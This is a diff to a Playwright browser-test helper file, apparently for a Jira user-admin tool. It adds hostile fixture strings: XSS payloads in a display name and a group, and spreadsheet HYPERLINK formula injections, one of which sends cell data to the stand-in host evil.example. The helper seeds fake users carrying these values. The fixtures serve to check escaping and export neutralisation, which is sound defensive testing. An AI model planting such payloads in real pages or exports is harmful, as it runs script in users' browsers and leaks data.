@@ -1,6 +1,6 @@
 // Shared set-up for the browser tests: Debian's Chromium driven by playwright-core (never a
 // downloaded browser; see shared/TOOLCHAIN.md).
-import { existsSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { chromium } from 'playwright-core';
 
 export const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
@@ -66,4 +66,24 @@ export async function adminPage(browser, baseUrl, { viewport = { width: 1280, he
     d.dismiss();
   });
   return { context, page, errors };
+}
+
+// Hostile strings a Jira instance can hold: HTML in a display name or group, spreadsheet formulas
+// in names and emails. The page must show them as text and neutralise them in exports.
+export const XSS_NAME = '<img src=x onerror="window.__pwned=1">';
+export const XSS_GROUP = '<script>window.__pwned=2</script>';
+export const FORMULA_NAME = '=HYPERLINK("http://evil.example/","Click me")';
+export const FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")@evil-<b>bold</b>.example';
+
+/** The built-in sample plus three hostile, long-idle users `mallory0..2` (`displayName(i)`, `groups`). */
+export function hostileSample({ displayName = (i) => `${XSS_NAME} ${i}`, groups = ['jira-software-users', XSS_GROUP] } = {}) {
+  const snap = JSON.parse(readFileSync(new URL('../../samples/snapshot.json', import.meta.url), 'utf8'));
+  for (let i = 0; i < 3; i++) {
+    snap.users.push({
+      name: `mallory${i}`, displayName: displayName(i), email: FORMULA_EMAIL, active: true,
+      groups, directory: 'Jira Internal Directory',
+      created: '2020-01-01T00:00:00Z', lastLogin: '2025-01-01T00:00:00Z',
+    });
+  }
+  return snap;
 }
